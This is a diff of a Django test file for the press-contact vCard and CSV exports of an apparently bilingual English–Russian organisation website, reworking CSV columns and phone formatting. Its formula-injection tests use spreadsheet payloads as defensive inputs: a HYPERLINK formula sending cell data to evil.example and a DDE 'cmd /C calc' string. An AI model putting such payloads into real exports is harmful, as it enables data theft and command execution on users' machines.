@@ -1,4 +1,4 @@
-"""/press/contacts.vcf and /press/contacts.csv: the public press contacts, per edition."""
+"""/press/contacts.vcf, .csv and .xlsx: the public press contacts, per edition."""
 
 import csv
 import datetime
@@ -7,7 +7,6 @@ import io
 import pytest
 from django.urls import reverse
 from django.utils import translation
-from django.utils.translation import gettext
 
 from core.editions import organisation
 from people.exports import spreadsheet_safe
@@ -19,7 +18,22 @@ pytestmark = pytest.mark.django_db
 
 VCF, CSV = "/press/contacts.vcf", "/press/contacts.csv"
 RU_VCF, RU_CSV = "/ru/press/contacts.vcf", "/ru/press/contacts.csv"
-HEADER = ["Name", "Position", "Organisation", "Kind", "Value", "Profile URL"]
+HEADER = [
+    "First Name",
+    "Middle Name",
+    "Last Name",
+    "Company",
+    "Department",
+    "Job Title",
+    "Business Phone",
+    "Business Phone 2",
+    "Business Fax",
+    "E-mail Address",
+    "E-mail 2 Address",
+    "Business Street",
+    "Web Page",
+    "Notes",
+]
 BOM = b"\xef\xbb\xbf"
 
 
@@ -87,10 +101,16 @@ def press_secretary():
         (Contact.Kind.FAX, "+7 495 621-33-24"),
         (Contact.Kind.TEL_FAX, "+7 495 606-97-71"),
         (Contact.Kind.EMAIL, "press@odkb-csto.org"),
-        (Contact.Kind.ADDRESS, "Sverchkov per., 8, bld. 1\nMoscow, 101000"),
     ]
     for kind, value in kinds:
         ContactFactory(person=person, kind=kind, value=value)
+    ContactFactory(
+        person=person,
+        kind=Contact.Kind.ADDRESS,
+        value="",
+        address_en="Sverchkov per., 8, bld. 1\nMoscow, 101000",
+        address_ru="Сверчков пер., 8, стр. 1\nМосква, 101000",
+    )
     return person
 
 
@@ -213,7 +233,7 @@ class TestVCard:
     def test_escaping_and_folding(self, client):
         label = "Служба, которая отвечает на вопросы; журналистов \\ и аккредитует их\nна встречи"
         address = "Сверчков пер., д. 8, стр. 1;\r\nМосква, 101000"
-        ContactFactory(label_en=label, kind=Contact.Kind.ADDRESS, value=address)
+        ContactFactory(label_en=label, kind=Contact.Kind.ADDRESS, value="", address_en=address)
 
         body = client.get(VCF).content
 
@@ -229,74 +249,83 @@ class TestVCard:
 
 
 class TestCsv:
-    def test_bom_header_and_one_row_per_public_contact(self, client, press_secretary):
+    def records(self, body):
+        rows = csv_rows(body)
+        assert rows[0] == HEADER
+        return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]
+
+    def test_bom_header_and_one_row_per_person_or_office(self, client, press_secretary):
         ContactFactory(label_en="Press service", value="press@odkb.org", kind=Contact.Kind.EMAIL)
-        ContactFactory(person=press_secretary, is_public=False, value="+7 000 000-00-01")
-        ContactFactory(person=PersonFactory(is_public=False), value="+7 000 000-00-02")
+        ContactFactory(person=press_secretary, is_public=False, value="+7 999 000-00-01")
+        ContactFactory(person=PersonFactory(is_public=False), value="+7 999 000-00-02")
 
         body = client.get(CSV).content
-        rows = csv_rows(body)
+        office, person = self.records(body)
 
         assert body.startswith(BOM)
         assert b"\r\n" in body  # RFC 4180 line ends
-        assert rows[0] == HEADER
-        assert len(rows) == 1 + 1 + 5
-        assert rows[1] == [
-            "Press service",
-            "",
-            "Collective Security Treaty Organization",
-            "e-mail",
-            "press@odkb.org",
-            "",
-        ]
-        profile = f"http://testserver/people/{press_secretary.slug}/"
-        assert rows[2] == [
-            "Vladimir Vasilyevich Zainetdinov",
-            "Press Secretary",
-            "Collective Security Treaty Organization",
-            "phone",
-            "'+7 495 621-33-23",
-            profile,
-        ]
-        assert [row[3] for row in rows[2:]] == ["phone", "fax", "tel/fax", "e-mail", "address"]
-        assert rows[-1][4] == "Sverchkov per., 8, bld. 1\nMoscow, 101000"  # one cell
-        assert b"+7 000 000-00-0" not in body
+        assert office["Company"] == "Collective Security Treaty Organization"
+        assert office["Department"] == "Press service"
+        assert office["E-mail Address"] == "press@odkb.org"
+        assert person["First Name"] == "Vladimir"
+        assert person["Middle Name"] == "Vasilyevich"
+        assert person["Last Name"] == "Zainetdinov"
+        assert person["Job Title"] == "Press Secretary"
+        assert person["Web Page"] == f"http://testserver/people/{press_secretary.slug}/"
+        # Phone numbers as a contact program reads them: no apostrophe.
+        assert person["Business Phone"] == "+7 495 621-33-23"
+        assert person["Business Phone 2"] == "+7 495 606-97-71"  # the tel/fax line
+        assert person["Business Fax"] == "+7 495 621-33-24"
+        assert person["E-mail Address"] == "press@odkb-csto.org"
+        assert person["Business Street"] == "Sverchkov per., 8, bld. 1\nMoscow, 101000"
+        assert person["Notes"] == ""  # every number found a column
+        assert b"999" not in body
 
-    def test_header_is_translated_with_gettext(self, client):
-        assert csv_rows(client.get(CSV).content)[0] == [gettext(h) for h in HEADER] == HEADER
+    def test_numbers_typed_any_way_are_written_the_same(self, client):
+        ContactFactory(kind=Contact.Kind.PHONE, value="8 (495) 621-33-23")
 
-    def test_russian_header(self, client):
-        with translation.override("ru"):
-            expected = [gettext(h) for h in HEADER]
-        if expected == HEADER:
-            pytest.skip("the Russian interface strings are not translated and compiled yet")
+        (office,) = self.records(client.get(CSV).content)
 
-        assert csv_rows(client.get(RU_CSV).content)[0] == expected
+        assert office["Business Phone"] == "+7 495 621-33-23"
+
+    def test_the_header_is_what_the_programs_read_in_every_edition(self, client):
+        assert csv_rows(client.get(RU_CSV).content)[0] == HEADER
 
     def test_russian_edition_exports_russian_texts(self, client, press_secretary):
         ContactFactory(label_en="Press service", label_ru="Пресс-служба")
         ContactFactory(person=PersonFactory(family_name_en="Englishonly"))
 
         body = client.get(RU_CSV).content
-        rows = csv_rows(body)
+        office, person = self.records(body)
 
-        assert [row[0] for row in rows[1:3]] == ["Пресс-служба", "Владимир Васильевич Зайнетдинов"]
-        assert rows[2][1] == "Пресс-секретарь"
-        assert rows[2][2] == organisation("ru")
-        assert rows[2][5] == f"http://testserver/ru/people/{press_secretary.slug}/"
+        assert office["Department"] == "Пресс-служба"
+        assert office["Company"] == organisation("ru")
+        assert (person["First Name"], person["Last Name"]) == ("Владимир", "Зайнетдинов")
+        assert person["Job Title"] == "Пресс-секретарь"
+        assert person["Company"] == organisation("ru")
+        assert person["Business Street"] == "Сверчков пер., 8, стр. 1\nМосква, 101000"
+        assert person["Web Page"] == f"http://testserver/ru/people/{press_secretary.slug}/"
         assert b"Englishonly" not in body
 
-    def test_formula_injection_is_defused(self, client):
+    def test_formula_injection_is_defused_in_every_other_field(self, client):
         ContactFactory(
             label_en='=HYPERLINK("http://evil.example/?"&A1,"Press")',
             kind=Contact.Kind.EMAIL,
             value="@SUM(1+1)*cmd|' /C calc'!A0",
         )
 
-        (row,) = csv_rows(client.get(CSV).content)[1:]
+        (office,) = self.records(client.get(CSV).content)
 
-        assert row[0] == '\'=HYPERLINK("http://evil.example/?"&A1,"Press")'
-        assert row[4] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+        assert office["Department"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Press")'
+        assert office["E-mail Address"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+
+    def test_a_stored_value_that_is_no_number_is_defused_too(self, client):
+        contact = ContactFactory(kind=Contact.Kind.PHONE)
+        Contact.objects.filter(pk=contact.pk).update(value="=1+2")  # written before the check
+
+        (office,) = self.records(client.get(CSV).content)
+
+        assert office["Business Phone"] == "'=1+2"
 
     @pytest.mark.parametrize(
         ("value", "safe"),
@@ -341,7 +370,7 @@ class TestQueries:
         if url.endswith(".vcf"):
             assert len(vcards(body)) == 1 + 17  # the office labels are all the same
         else:
-            assert len(csv_rows(body)) == 1 + 17 * 2 + 2
+            assert len(csv_rows(body)) == 1 + 17 + 1  # a row per person, one for the office
 
 
 class TestLinks:
